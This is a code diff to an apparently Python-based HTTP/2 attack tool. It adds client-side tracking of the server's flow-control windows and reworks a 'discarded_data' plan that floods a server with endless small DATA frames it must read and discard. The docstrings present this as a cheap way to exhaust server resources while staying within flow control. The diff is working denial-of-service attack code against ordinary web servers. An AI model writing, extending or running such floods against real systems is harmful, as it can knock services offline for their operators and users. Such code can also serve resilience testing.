@@ -86,6 +86,18 @@ class Ending:
     first_status: bytes = b""
     """The first bytes the server sent on an HTTP/1.1 attack (the start of its first response)."""
     notes: list[str] = field(default_factory=list)
+    initial_window: int = 65535
+    """The server's SETTINGS_INITIAL_WINDOW_SIZE (flow control: what we may send on a new stream)."""
+    connection_window: int = 65535
+    stream_windows: dict[int, int] = field(default_factory=dict)
+    """What the server's flow control lets us send (kept only by the attacks that respect it)."""
+
+    def window(self, stream_id: int) -> int:
+        return min(self.connection_window, self.stream_windows.get(stream_id, self.initial_window))
+
+    def spend(self, stream_id: int, size: int) -> None:
+        self.connection_window -= size
+        self.stream_windows[stream_id] = self.stream_windows.get(stream_id, self.initial_window) - size
 
     @property
     def ended_after(self) -> float | None:
@@ -119,6 +131,20 @@ class _Reader:
                 ending.goaway = int.from_bytes(payload[4:8], "big")
                 ending.goaway_debug = bytes(payload[8:]).decode("latin-1")
                 ending.goaway_at = time.monotonic() - self.started
+            elif kind == WINDOW_UPDATE and length == 4:
+                increment = int.from_bytes(payload, "big") & MAX_WINDOW
+                stream_id = int.from_bytes(buffer[offset + 5 : offset + 9], "big") & MAX_WINDOW
+                if stream_id:
+                    ending.stream_windows[stream_id] = ending.window(stream_id) + increment
+                else:
+                    ending.connection_window += increment
+            elif kind == SETTINGS and not flags & ACK:
+                for at in range(0, length - 5, 6):
+                    if int.from_bytes(payload[at : at + 2], "big") == INITIAL_WINDOW_SIZE:
+                        new = int.from_bytes(payload[at + 2 : at + 6], "big")
+                        for stream_id in ending.stream_windows:
+                            ending.stream_windows[stream_id] += new - ending.initial_window
+                        ending.initial_window = new
             elif kind == RST_STREAM:
                 ending.resets += 1
                 ending.answered += 1
@@ -194,16 +220,22 @@ def pages(path: str = "/version", window: int = 100) -> Plan:
     return hpack_bomb(path, entry=1, refs=0, window=window)
 
 
-def discarded_data(path: str = "/") -> Plan:
-    """A page request with our window shut, then DATA on it without end: a body nobody reads, so the
-    server drops it and gives the window back at once; the socket never runs dry."""
+def discarded_data(path: str = "/", size: int = 64) -> Plan:
+    """A page request with our window shut, then DATA on it without end, in frames of `size` bytes:
+    a body nobody reads, so the server drops it and gives the window back at once. Small frames
+    cost the server more than they cost us: its socket never runs dry."""
 
     def plan(ending: Ending) -> Iterator[bytes]:
         ending.streams = 1
-        chunk = frame(DATA, 0, 1, b"d" * 16384)
+        count = SEND_BATCH // (size + 9)
+        chunk = frame(DATA, 0, 1, b"d" * size) * count
         yield settings((INITIAL_WINDOW_SIZE, 0)) + frame(HEADERS, END_HEADERS, 1, request_block(path))
         while True:
-            yield chunk * 4
+            if ending.window(1) < size * count:  # (within the server's flow control: a lawful client)
+                yield b""
+                continue
+            ending.spend(1, size * count)
+            yield chunk
 
     return plan
 
